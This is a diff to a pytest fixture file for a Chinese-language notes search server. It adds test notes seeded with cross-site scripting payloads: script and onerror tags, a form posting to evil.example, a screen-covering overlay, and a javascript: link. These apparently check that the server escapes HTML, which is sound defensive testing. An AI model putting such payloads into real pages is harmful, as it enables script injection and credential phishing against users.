@@ -6,6 +6,7 @@ import subprocess
 import sys
 import time
 from collections.abc import Iterator, Sequence
+from contextlib import contextmanager
 from pathlib import Path
 
 import httpx
@@ -17,6 +18,14 @@ from corpus.types import Chunk, Document, PageSpan, Section
 
 ROOT = Path(__file__).parents[2]
 EVIL = '<img src=x onerror="window.stolen=1"><script>window.stolen=2</script>'
+EVIL_NOTES = f"""第 1 章 标题{EVIL}
+
+1.1 关于宽带的<u>通知</u>
+
+宽带网络要提速降费。{EVIL}各地要落实<form action="http://evil.example"><input name=id></form>宽带建设。
+
+<div style="position:fixed;inset:0;background:red">盖住</div>宽带资费要下降，<a href="javascript:window.stolen=3">点我</a>。
+"""
 TEXT = f"一、总则\n第一句说宽带。{EVIL}第二句说“数据”。\n第三段在下一页。\n二、空节\n"
 
 
@@ -77,10 +86,27 @@ def feedback_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 @pytest.fixture(scope="session")
 def server(tmp_path_factory: pytest.TempPathFactory, feedback_file: Path) -> Iterator[str]:
-    """The address of a real server over the notes, ready to answer."""
+    """The address of a real server over the notes, ready to answer; TEST_INDEX names an index folder to keep between runs."""
     folder = tmp_path_factory.mktemp("served")
-    command = [sys.executable, "app.py", "--port", "0", "--index", str(folder / "index"), "--feedback", str(feedback_file)]
-    log = folder / "log"
+    chosen = os.environ.get("TEST_INDEX", str(folder / "index"))
+    with run_server(folder / "log", "--index", chosen, "--feedback", str(feedback_file)) as address:
+        yield address
+
+
+@pytest.fixture(scope="session")
+def evil_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """A real server over a file full of HTML."""
+    folder = tmp_path_factory.mktemp("evil")
+    notes = folder / "notes.txt"
+    notes.write_text(EVIL_NOTES, encoding="utf-8")
+    with run_server(folder / "log", "--index", str(folder / "index"), "--corpus", str(notes), "--feedback", str(folder / "f")) as address:
+        yield address
+
+
+@contextmanager
+def run_server(log: Path, *options: str) -> Iterator[str]:
+    """A server process on a free port, for as long as the block lasts."""
+    command = [sys.executable, "app.py", "--port", "0", *options]
     with log.open("w") as out:
         process = subprocess.Popen(command, cwd=ROOT, stdout=out, stderr=subprocess.STDOUT, env=os.environ | {"PYTHONUNBUFFERED": "1"})
     try:
